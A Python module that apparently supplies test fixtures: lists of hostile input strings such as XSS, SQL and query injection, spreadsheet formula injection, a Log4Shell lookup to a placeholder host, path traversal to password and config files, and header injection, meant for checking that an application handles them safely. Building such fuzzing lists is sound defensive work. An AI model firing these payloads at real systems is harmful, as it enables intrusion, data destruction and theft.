"""What somebody may send who wants harm: texts for queries, paths and headers."""

from typing import Final

MARKUP: Final = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
    "</title><svg/onload=alert(1)>",
    "javascript:alert(1)",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "\u003cscript\u003e",
    "<iframe srcdoc='&lt;script&gt;'>",
)
CELLS: Final = ("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", '"\r\n=1', "\uff1d1")
QUERIES: Final = (
    '" OR project = HR',
    "') OR 1=1 --",
    'x" ORDER BY key DESC',
    "\\",
    '\\" OR assignee = currentUser()',
    "'; DROP TABLE days; --",
    "${jndi:ldap://evil.invalid/a}",
)
PATHS: Final = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "....//....//etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e/",
    "//evil.invalid/%2f..",
    "/\\evil.invalid",
    "file:///etc/passwd",
    "x/" * 500,
    "\0",
    "a\0b.csv",
    ".git/config",
    ";/x",
)
LINES: Final = ("\r\nX-Injected: yes", "\nX-Injected: yes", "%0d%0aX-Injected:%20yes", "\u560d\u560aX-Injected: yes")
ODD: Final = (
    "\u202e\u2066evil",
    "\U0001f4a5" * 60,
    "\ufffe\uffff",
    "\u0000\u0001\u001b[2J\u009b31m",
    "Z\u0351\u036b\u0343\u036a\u0302" * 20,
    "\u1e9e\u0130\u0131",
    "x" * 3_000,
    "[]", "{}", "null", "NaN", "1e308", "-1", "99999999999999999999", "0001-01-01..9999-12-31", "__proto__", "%", "%zz",
)  # fmt: skip
TEXTS: Final = (*MARKUP, *CELLS, *QUERIES, *PATHS, *LINES, *ODD)
